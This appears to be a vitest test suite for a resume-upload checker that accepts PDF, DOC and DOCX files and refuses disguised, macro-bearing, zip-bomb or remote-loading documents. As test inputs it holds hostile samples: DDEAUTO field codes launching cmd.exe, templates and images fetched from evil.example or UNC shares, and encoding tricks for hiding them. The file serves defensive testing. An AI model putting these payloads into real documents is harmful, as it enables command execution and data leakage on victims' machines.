import { randomBytes } from 'node:crypto'
import { deflateRawSync, inflateRawSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { bytesOf } from '@/lib/platform/file-bytes'
import { cpuTime } from '../../tests/support/cpu-time'
import { makeDoc, makeDocx, makePdf, makeZip } from '../../tests/support/documents'
import { createSearchForFields } from './docx-fields'
import { checkResume } from './resume-file'
import { resumeMessages } from './resume-rules'

/** Returns the type, or the reason for rejecting the file. */
async function outcome(bytes: Buffer, name: string) {
  try {
    return await checkResume(bytesOf(bytes), name)
  } catch (error) {
    return (error as Error).message
  }
}

describe('a resume', () => {
  it.each([
    ['pdf', 'CV.PDF', makePdf()],
    ['doc', 'cv.doc', makeDoc()],
    ['docx', 'my cv.final.docx', makeDocx()],
  ])('is accepted as a .%s', async (kind, name, bytes) => expect(await outcome(bytes, name)).toBe(kind))
})

/** Returns a .doc followed by directory entries of another .doc, to which its own directory does not refer. */
const withLooseMacros = () =>
  Buffer.concat([makeDoc(), makeDoc({ storage: '_VBA_PROJECT' }).subarray(1024, 1536)])

describe('a file that only looks like a resume', () => {
  const html = Buffer.from('<!doctype html><script>alert(1)</script>')
  it.each([
    ['an HTML page named .pdf', html, 'cv.pdf', resumeMessages.mismatch],
    ['an executable', makePdf(), 'cv.pdf.exe', resumeMessages.type],
    ['a file without an extension', makePdf(), 'cv', resumeMessages.type],
    ['an empty file', Buffer.alloc(0), 'cv.pdf', resumeMessages.empty],
    ['a Word document named .pdf', makeDocx(), 'cv.pdf', resumeMessages.mismatch],
    ['a PDF named .docx', makePdf(), 'cv.docx', resumeMessages.mismatch],
    ['an HTML page followed by a PDF', Buffer.concat([html, makePdf()]), 'cv.pdf', resumeMessages.mismatch],
    ['a truncated PDF', makePdf().subarray(0, 400), 'cv.pdf', resumeMessages.damaged],
    ['another archive', makeZip([{ name: 'a', data: html }]), 'cv.docx', resumeMessages.mismatch],
    ['another Office file', makeDoc({ stream: 'Workbook' }), 'cv.doc', resumeMessages.mismatch],
    [
      'a document with unusually named macros',
      makeDoc({ storage: '_vba_project' }),
      'cv.doc',
      resumeMessages.macros,
    ],
    ['a document with macros outside its directory', withLooseMacros(), 'cv.doc', resumeMessages.macros],
    [
      'a document cut off in the entry of its macros',
      withLooseMacros().subarray(0, -144),
      'cv.doc',
      resumeMessages.macros,
    ],
    ['a document with macros', makeDoc({ storage: '_VBA_PROJECT_CUR' }), 'cv.doc', resumeMessages.macros],
  ])('is refused: %s', async (_what, bytes, name, message) =>
    expect(await outcome(bytes, name)).toBe(message),
  )
})

describe('a .docx', () => {
  const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024)
  const part = (name: string, data = Buffer.from('x')) => ({ name, data })

  it('is rejected if its stated unpacked size is too large', async () => {
    const bomb = makeDocx('', [part('word/media/image1.png', zeros(120))])
    expect(bomb.length).toBeLessThan(200_000)
    expect(await outcome(bomb, 'cv.docx')).toBe(resumeMessages.unpacked)
  })

  it('is rejected once a part exceeds its stated size', async () => {
    const bomb = makeDocx('', [{ name: 'word/media/image1.png', data: zeros(120), claims: 10 }])
    const packed = deflateRawSync(zeros(120))
    const whole = await cpuTime(() => inflateRawSync(packed))
    const refusal = await cpuTime(async () => {
      expect(await outcome(bomb, 'cv.docx')).toBe(resumeMessages.unpacked)
    })
    expect(refusal).toBeLessThan(whole / 2)
  })

  it('is rejected if it has too many parts', async () => {
    const parts = Array.from({ length: 2_001 }, (_, index) => part(`word/${index}`))
    expect(await outcome(makeDocx('', parts), 'cv.docx')).toBe(resumeMessages.unpacked)
  })

  it.each(['word/vbaProject.bin', 'word/VBAPROJECT.BIN'])(
    'is rejected if it contains macros: %s',
    async (name) => expect(await outcome(makeDocx('', [part(name)]), 'cv.docx')).toBe(resumeMessages.macros),
  )

  it('is rejected if its content type says it contains macros', async () => {
    const type = 'application/vnd.ms-word.document.macroEnabled.main+xml'
    expect(await outcome(makeDocx('', [], type), 'cv.docx')).toBe(resumeMessages.macros)
    const hidden = type.replace('Enabled', '&#69;nabled')
    expect(await outcome(makeDocx('', [], hidden), 'cv.docx')).toBe(resumeMessages.damaged)
    const project = 'application/vnd.ms-office.vbaProject'
    expect(await outcome(makeDocx('', [], project), 'cv.docx')).toBe(resumeMessages.macros)
  })

  const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const SETTINGS = 'word/_rels/settings.xml.rels'
  const relationship = (type: string, target: string, mode = ' TargetMode="External"') =>
    `<Relationships><Relationship Id="r1" Type="${TYPES}/${type}" Target="${target}"${mode}/></Relationships>`
  const withPart = (data: string | Buffer, name = SETTINGS) =>
    outcome(makeDocx('', [part(name, Buffer.from(data))]), 'cv.docx')

  it.each([
    ['attachedTemplate', 'https://evil.example/a.dotm', resumeMessages.remoteParts],
    ['oleObject', '\\\\evil.example\\a', resumeMessages.remoteParts],
    ['image', 'http://evil.example/seen.png', resumeMessages.remoteParts],
    ['image', 'file:///\\\\evil.example\\a.png', resumeMessages.remoteParts],
    ['somethingNew', 'ftp:evil.example', resumeMessages.remoteParts],
    ['attachedTemplate', 'file:///C:/Templates/Resume.dotx', 'docx'],
    [
      'attachedTemplate',
      'file:///C:\\Users\\Ada%20Obi\\AppData\\Roaming\\Microsoft\\Templates\\CV.dotx',
      'docx',
    ],
    ['attachedTemplate', 'file://localhost/Users/ada/Resume.dotx', 'docx'],
    ['attachedTemplate', '/Users/ada/Resume.dotx', 'docx'],
    ['attachedTemplate', 'file:///My%20Resume.dotm', 'docx'],
    ['attachedTemplate', 'file:////evil.example/a.dotm', resumeMessages.remoteParts],
    ['image', 'cid:image001.png@01D7', 'docx'],
    ['hyperlink', 'https://ada.example/?a=1&amp;b=vbaProject', 'docx'],
    ['hyperlink', 'mailto:ada@example.com', 'docx'],
    ['hyperlink', 'https://ada.example/O&#39;Brien', 'docx'],
  ])('with an external %s at %s is checked, with the result: %s', async (type, target, result) => {
    expect(await withPart(relationship(type, target))).toBe(result)
  })

  const remote = relationship('attachedTemplate', 'https://evil.example/a.dotm')
  it.each([
    ['a character reference in the type', remote.replace('Template', 'Templ&#97;te'), resumeMessages.damaged],
    ['a character reference in the address', remote.replace('https', '&#104;ttps'), resumeMessages.damaged],
    [
      'a ">" between type and address',
      remote.replace(' Target=', ' Id="a>b" Target='),
      resumeMessages.remoteParts,
    ],
    [
      'another type inside a value',
      remote.replace(' Target=', ` x:y=" Type='${TYPES}/hyperlink' " Target=`),
      resumeMessages.remoteParts,
    ],
    [
      'a type that only ends like that of a link',
      relationship('attachedTemplate#/hyperlink', 'https://evil.example/a.dotm'),
      resumeMessages.remoteParts,
    ],
    ['a type from a declaration', `<!DOCTYPE a [<!ENTITY t "x">]>${remote}`, resumeMessages.damaged],
    ['UTF-16', Buffer.from(`\ufeff${remote}`, 'utf16le'), resumeMessages.damaged],
    ['another encoding', `<?xml version="1.0" encoding="UTF-7"?>${remote}`, resumeMessages.damaged],
    ['a megabyte of spaces in front', `${' '.repeat(1_100_000)}${remote}`, resumeMessages.unpacked],
    ['an inserted web page', relationship('aFChunk', 'page.mht', ''), resumeMessages.remoteParts],
    ['macros in a part of another name', relationship('vbaProject', 'v.bin', ''), resumeMessages.macros],
  ])('is refused if its relationships hide something: %s', async (_, data, result) => {
    expect(await withPart(data)).toBe(result)
  })

  it.each([
    'word/_rels/settings.xml%2Erels',
    'word/_rels/settings.xml.rels/[0].last.piece',
    'word/_rels/[Content_Types].xml',
    '[trash]/[0].last.piece',
    `${SETTINGS} `,
    `${SETTINGS}.`,
    `${SETTINGS}\u00a0`,
    `${SETTINGS}\0`,
    'word/_rels /settings.xml.rels',
    'word/../word/_rels/settings.xml.rels',
    `/${SETTINGS}`,
    `${SETTINGS}/`,
    `${SETTINGS}\\`,
    `${SETTINGS}#`,
    `${SETTINGS}?`,
    `${SETTINGS}\u200b`,
    `${SETTINGS}\u2028`,
    `${SETTINGS}\ufffd`,
    'word\\_rels\\settings.xml.rels',
    'word//_rels/settings.xml.rels',
    'word/_rels/settings.xml\uff0erels',
  ])('is rejected if Word may read a part name differently: %j', async (name) => {
    expect(await withPart(remote, name)).toBe(resumeMessages.damaged)
  })

  it('may have folders', async () => {
    expect(await withPart('', 'word/')).toBe('docx')
  })

  it.each(['[trash]/0000.dat', 'word/embeddings/Лист Excel 97-2003.1.xlsx', 'customXml/item1.xml'])(
    'may have a part named %j',
    async (name) => expect(await withPart('<a/>', name)).toBe('docx'),
  )

  const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
  const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
  const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
  const field = (...parts: string[]) =>
    [mark('begin'), ...parts, mark('separate'), '<w:r><w:t>LINK</w:t></w:r>', mark('end')].join('')
  const header = (content: string, start = '') =>
    withPart(`${start}<w:hdr ${W}><w:p>${content}</w:p></w:hdr>`, 'word/header1.xml')
  const { remoteParts, damaged } = resumeMessages

  it.each([
    ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', remoteParts],
    [' dde Excel', remoteParts],
    ['INCLUDEPICTURE "\\\\\\\\host\\\\share\\\\x.png" \\d', remoteParts],
    ['INCLUDEPICTURE //host/share/x.png', remoteParts],
    ['INCLUDETEXT “https://evil.example/a.docx”', remoteParts],
    ['IMPORT &quot;http:&#x2f;/evil.example/a.png&quot;', remoteParts],
    ['LINK Excel.Sheet.12 "\\\\\\\\host\\\\a.xlsx" "Sheet1!R1C1:R3C4" \\a \\f 5', remoteParts],
    ['LINK Excel.Sheet.12 "C:\\\\Users\\\\Ada\\\\a.xlsx" "Sheet1!R1C1:R3C4" \\a \\f 5', 'docx'],
    ['INCLUDEPICTURE "cid:image001.png@01D7" \\* MERGEFORMATINET', 'docx'],
    ['INCLUDEPICTURE "C:\\\\My \\\\\\\\ CV\\\\ada.png" \\d', 'docx'],
    ['RD "\\\\\\\\evil\\share\\a.docx"', remoteParts],
    ['DATABASE \\d "\\\\\\\\evil\\share\\a.mdb"', remoteParts],
    ['HYPERLINK "https://ada.example/link/dde"', 'docx'],
    ['PAGE  \\* MERGEFORMAT', 'docx'],
  ])('with the field %s is checked, with the result: %s', async (text, result) => {
    expect(await header(field(code(text)))).toBe(result)
    expect(await header(field(...Array.from(text.split(/(?<=\w{3})(?=\w)/), code)))).toBe(result)
    const simple = text.replaceAll('"', '&quot;')
    expect(await header(`<w:fldSimple w:dirty="a>b" w:instr="${simple}"><w:r/></w:fldSimple>`)).toBe(result)
  })

  it.each([
    [
      'split by another field',
      field(code('INCLUDEPICTURE '), field(code('SET a b')), code('"https://a.example"')),
    ],
    ['split between paragraphs', field(code('INCLUDETEXT '), '</w:p><w:p>', code('"https://evil.example"'))],
    [
      'given its place by another field',
      field(code('INCLUDEPICTURE '), field(code('QUOTE 104 116 116 112'))),
    ],
    ['given its place by a simple field', field(code('INCLUDETEXT '), '<w:fldSimple w:instr="REF place"/>')],
    [
      'given its name by another field',
      field(field(code('QUOTE INCLUDEPICTURE')), code(' "http://evil.example"')),
    ],
    ['completed by another field', field(code('DD'), field(code('QUOTE E')), code(' cmd'))],
    ['written with leading zeros', field(code('&#x00000044;D&#0000069; cmd'))],
    ['outside of fields', `${code('DDE')}${code('AUTO cmd')}`],
    ['in a field without an end', `${mark('begin')}${code('DDEAUTO cmd')}`],
    ['under another prefix', '<a:fldSimple a:instr="DDE cmd"/>'],
  ])('is refused if a dangerous field code is %s', async (_where, content) => {
    expect(await header(content)).toBe(remoteParts)
  })

  it('is refused if its markup could hide a field from the check', async () => {
    const dde = field(code('DDEAUTO cmd'))
    expect(await header(field(code('DDE<!-- -->AUTO cmd')))).toBe(damaged)
    expect(await header(field(code('DDE<?a ?>AUTO cmd')))).toBe(damaged)
    expect(await header(field(code('DDE<w:b/>AUTO cmd')))).toBe(damaged)
    expect(await header(dde, '<!DOCTYPE a [<!ENTITY t "x">]>')).toBe(damaged)
    expect(await header(dde, '<?xml version="1.0" encoding="UTF-7"?>')).toBe(damaged)
    expect(await withPart(Buffer.from(`\ufeff${dde}`, 'utf16le'), 'word/header1.xml')).toBe(damaged)
    expect(await header(field(code(`${' '.repeat(2_000_000)}DDE cmd`)))).toBe(resumeMessages.unpacked)
    const padding = `w:dirty="${' '.repeat(2_000_000)}"`
    const padded = `<w:fldSimple ${padding} w:instr="DDE cmd" w:x="${' '.repeat(2_000_000)}"/>`
    expect(await header(padded)).toBe(resumeMessages.unpacked)
    const long = ` INCLUDEPICTURE${' a'.repeat(100_000)}`
    expect(await header(field(code(long)).repeat(6))).toBe(resumeMessages.unpacked)
    expect(await header(`<w:fldSimple w:instr="${long}"/>`.repeat(6))).toBe(resumeMessages.unpacked)
    expect(await header(mark('begin').repeat(50_001))).toBe(resumeMessages.unpacked)
    expect(await header('<w:fldChar w:fldCharType="begin" x:fldCharType="end"/>')).toBe(damaged)
  })

  it.each([
    ['word/document.dat', 'UTF-8', (text: string) => Buffer.from(text)],
    ['customXml/item1.xml', 'UTF-8', (text: string) => Buffer.from(text)],
    ['main', 'little-endian UTF-16', (text: string) => Buffer.from(text, 'utf16le')],
    ['main', 'big-endian UTF-16', (text: string) => Buffer.from(text, 'utf16le').swap16()],
  ])('is refused if a part that should have no fields has some: %s in %s', async (name, _what, encode) => {
    const part = `<w:hdr ${W}><w:p>${field(code('DDEAUTO cmd'))}</w:p></w:hdr>`
    expect(await withPart(encode(' '.repeat(65_530) + part), name)).toBe(damaged)
    expect(await withPart(encode(part.replaceAll('instrText', 't')), name)).toBe('docx')
  })

  it('is searched for fields about equally fast, whatever it contains', async () => {
    const timeToSearch = (byte: string) =>
      cpuTime(() => {
        const search = createSearchForFields()
        for (let i = 0; i < 2_000; i += 1) search.add(Buffer.alloc(16 * 1024, byte))
      })
    // The fastest of several searches, because collecting garbage can take longer than one of them.
    const fastest = async (byte: string) => {
      const times: number[] = []
      for (let i = 0; i < 5; i += 1) times.push(await timeToSearch(byte))
      return Math.min(...times)
    }
    expect(await fastest('\0')).toBeLessThan((await fastest(' ')) * 8)
  })

  it('is refused with a mail merge, whose query Word would run', async () => {
    const settings = `<w:settings ${W}><w:mailMerge><w:query w:val="SELECT 1"/></w:mailMerge></w:settings>`
    expect(await withPart(settings, 'word/settings.xml')).toBe(remoteParts)
    expect(await withPart(settings, 'settings')).toBe(damaged)
  })

  it('is accepted with fields in the codes of harmless fields, and in results', async () => {
    const name = field(code('MERGEFIELD Name'))
    const picture = field(code('INCLUDEPICTURE "C:\\\\ada.png"'), mark('separate'), field(code('PAGE')))
    for (const harmless of [
      field(code('IF '), name, code(' = "" "" "x"')),
      field(code('= '), name, code(' + 1')),
      picture,
    ])
      expect(await header(harmless)).toBe('docx')
  })

  it('is accepted with a large drawing, and with many fields', async () => {
    expect(await header(`<w:pict o:gfxdata="${'A'.repeat(2_000_000)}"/>${field(code('PAGE'))}`)).toBe('docx')
    const contents = Array(5_000)
      .fill(field(code('HYPERLINK \\l "_Toc1"')))
      .join('</w:p><w:p>')
    expect(
      await header(field(code('TOC'), mark('separate'), contents), '<?xml version="1.0" encoding="UTF-8"?>'),
    ).toBe('docx')
  })

  it('is rejected if a part named in capitals loads something from elsewhere', async () => {
    expect(await withPart(remote, '_rels/DOCUMENT.XML.RELS')).toBe(resumeMessages.remoteParts)
  })

  it('is accepted with as many links and images as a long resume has', async () => {
    const one = /<Relationship .*\/>/.exec(
      relationship('hyperlink', `https://ada.example/${'a'.repeat(200)}`),
    )
    const links = `\ufeff<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships>${one?.[0].repeat(150)}</Relationships>`
    expect(await withPart(links)).toBe('docx')
  })

  it('is rejected at once if it has many large relationship parts', async () => {
    const large = Buffer.alloc(1024 * 1024, '>')
    const parts = Array.from({ length: 20 }, (_, index) => part(`word/_rels/${index}.rels`, large))
    const document = makeDocx('', parts)
    const unpacking = await cpuTime(() => inflateRawSync(deflateRawSync(large)))
    const refusal = await cpuTime(async () => {
      expect(await outcome(document, 'cv.docx')).toBe(resumeMessages.unpacked)
    })
    expect(refusal).toBeLessThan(unpacking * 10)
  })

  it.each([
    `<Relationships ${'x'.repeat(60_000)}`,
    `<Relationships ${' a'.repeat(30_000)}>`,
    `<Relationships ${` a="'`.repeat(12_000)}">`,
    '<'.repeat(60_000),
    `<Relationships ${'='.repeat(60_000)}>`,
  ])('is checked quickly whatever its relationships contain: %.20s', async (data) => {
    expect(await cpuTime(() => withPart(data))).toBeLessThan(1_000)
  })

  it('is rejected without unpacking if its parts overlap', async () => {
    // A million empty deflate blocks. Unpacking them for each of two hundred overlapping parts would take ten
    // seconds.
    const emptyBlocks = Buffer.concat([
      Buffer.from('000000ffff'.repeat(1_000_000), 'hex'),
      Buffer.from('010000ffff', 'hex'),
    ])
    const document = overlapping(makeDocx(), emptyBlocks, 200)
    const time = await cpuTime(async () => {
      expect(await outcome(document, 'cv.docx')).toBe(resumeMessages.damaged)
    })
    expect(time).toBeLessThan(500)
  })

  it('is rejected if anything follows the archive', async () => {
    const page = Buffer.from('<script>alert(1)</script>')
    expect(await outcome(Buffer.concat([makeDocx(), page]), 'cv.docx')).toBe(resumeMessages.damaged)
  })
})

/** Adds one compressed part to a document, and `count` directory entries that all point at it. */
function overlapping(docx: Buffer, packed: Buffer, count: number): Buffer {
  const end = Buffer.from(docx.subarray(-22))
  const start = end.readUInt32LE(16)
  const local = Buffer.alloc(30)
  local.write('PK\x03\x04', 'latin1')
  local.writeUInt16LE(8, 8)
  const entries = Array.from({ length: count }, () => {
    const entry = Buffer.alloc(47, 'x')
    entry.fill(0, 4, 46)
    entry.write('PK\x01\x02', 'latin1')
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt16LE(1, 28)
    entry.writeUInt32LE(start, 42)
    return entry
  })
  const directory = Buffer.concat([docx.subarray(start, -22), ...entries])
  for (const at of [8, 10]) end.writeUInt16LE(end.readUInt16LE(at) + count, at)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(start + local.length + packed.length, 16)
  return Buffer.concat([docx.subarray(0, start), local, packed, directory, end])
}

it('rejects damaged files instead of throwing other errors', async () => {
  const allowed: string[] = [...Object.values(resumeMessages), 'pdf', 'doc', 'docx']
  for (const [make, name] of [
    [makePdf, 'a.pdf'],
    [makeDocx, 'a.docx'],
    [makeDoc, 'a.doc'],
  ] as const) {
    const whole = make()
    for (let i = 0; i < 300; i += 1) {
      const broken = Buffer.from(whole)
      for (let count = 0; count < 4; count++)
        broken[8 + (randomBytes(4).readUInt32LE() % (broken.length - 8))] = randomBytes(1)[0] ?? 0
      expect(allowed).toContain(await outcome(broken, name))
      expect(allowed).toContain(await outcome(whole.subarray(0, i * 3), name))
    }
  }
})
